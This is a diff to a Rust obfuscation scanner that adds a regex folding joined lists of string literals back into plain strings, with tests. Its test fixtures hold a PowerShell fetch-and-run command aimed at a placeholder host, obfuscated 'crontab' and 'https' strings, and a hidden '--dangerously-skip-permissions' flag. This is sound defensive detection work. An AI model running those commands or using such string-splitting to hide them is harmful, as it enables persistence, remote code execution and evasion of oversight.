@@ -13,7 +13,7 @@ const MAX_INFLATED: u64 = 256 * 1024;
 
 re!(
     CANDIDATE,
-    r"[A-Za-z0-9+/]{16,}={0,2}|\\x[0-9a-fA-F]{2}|fromCharCode|chr\(|rot.?13|\[::-1\]|reverse\(\)|['\x22]\s*\+\s*['\x22]|fromhex|[0-9a-fA-F]{16,}|path\.join\(|path\.resolve\(|Path\(|\s/\s*['\x22]"
+    r"[A-Za-z0-9+/]{16,}={0,2}|\\x[0-9a-fA-F]{2}|fromCharCode|chr\(|rot.?13|\[::-1\]|reverse\(\)|['\x22]\s*\+\s*['\x22]|fromhex|[0-9a-fA-F]{16,}|path\.join\(|path\.resolve\(|Path\(|\s/\s*['\x22]|\.join\("
 );
 re!(BASE64, r"[A-Za-z0-9+/_-]{16,}={0,2}");
 re!(HEX, r"['\x22]([0-9a-fA-F]{16,})['\x22]");
@@ -29,6 +29,12 @@ re!(
     r#"(['"])([^'"]{6,})['"]\s*(\[::-1\]|\.split\(\s*['"]{2}\s*\)\.reverse\(\)\.join\(\s*['"]{2}\s*\))"#
 );
 re!(CONCAT, r#"(['"][^'"\n]*['"]\s*\+\s*)+['"][^'"\n]*['"]"#);
+re!(
+    /// A list of string literals joined: Python's `"".join(["cu", "rl"])` (the separator first, group 1 or 2, the
+    /// list group 3) or JavaScript's `['ht', 'tps'].join('')` (the list group 4, the separator group 5 or 6).
+    LIST_JOIN,
+    r#"(?:'([^'\n]*)'|"([^"\n]*)")\s*\.join\(\s*[\[(]((?:\s*(?:'[^'\n]*'|"[^"\n]*")\s*,?)+)[\])]\s*\)|\[((?:\s*(?:'[^'\n]*'|"[^"\n]*")\s*,?)+)\]\s*\.join\(\s*(?:'([^'\n]*)'|"([^"\n]*)")\s*\)"#
+);
 
 /// How a text was hidden, and the text.
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -249,6 +255,21 @@ pub(super) fn hidden_texts(line: &str) -> Vec<Hidden> {
             .collect();
         push(JOINED_LITERALS, joined);
     }
+    if line.contains(".join(") && LIST_JOIN.is_match(line) {
+        // The line as the program reads it: each joined list written as the one string it makes.
+        let joined = LIST_JOIN.replace_all(line, |c: &regex::Captures<'_>| {
+            let (sep, items) = match c.get(3) {
+                Some(items) => (c.get(1).or_else(|| c.get(2)), items.as_str()),
+                None => (c.get(5).or_else(|| c.get(6)), c.get(4).map_or("", |m| m.as_str())),
+            };
+            let parts: Vec<&str> = QUOTED
+                .captures_iter(items)
+                .map(|q| q.get(1).or_else(|| q.get(3)).map_or("", |m| m.as_str()))
+                .collect();
+            format!("\"{}\"", parts.join(sep.map_or("", |m| m.as_str())))
+        });
+        push(JOINED_LITERALS, joined.into_owned());
+    }
     if let Some(folded) = joined_paths(line) {
         push(JOINED_PATH_HOW, folded);
     }
@@ -385,6 +406,27 @@ mod tests {
         let enc = base64::engine::general_purpose::STANDARD.encode(ps);
         assert!(
             decoded(&format!("powershell -enc {enc}")).contains(&"iex (iwr http://x.invalid/a)".to_owned())
+        );
+    }
+
+    #[test]
+    fn a_list_of_literals_joined_is_read_as_the_string_it_makes() {
+        let found = decoded("subprocess.run([\"\".join([\"cr\", \"on\", \"tab\"]), \"-\"], input=line)");
+        assert!(
+            found.iter().any(|t| t.contains("[\"crontab\", \"-\"]")),
+            "{found:?}"
+        );
+        let found = decoded("const lib = require(['ht', 'tps'].join(''));");
+        assert!(
+            found.iter().any(|t| t.contains("require(\"https\")")),
+            "{found:?}"
+        );
+        let found = decoded("flag = \"-\".join([\"\", \"\", \"dangerously\", \"skip\", \"permissions\"])");
+        assert!(
+            found
+                .iter()
+                .any(|t| t.contains("\"--dangerously-skip-permissions\"")),
+            "{found:?}"
         );
     }
 
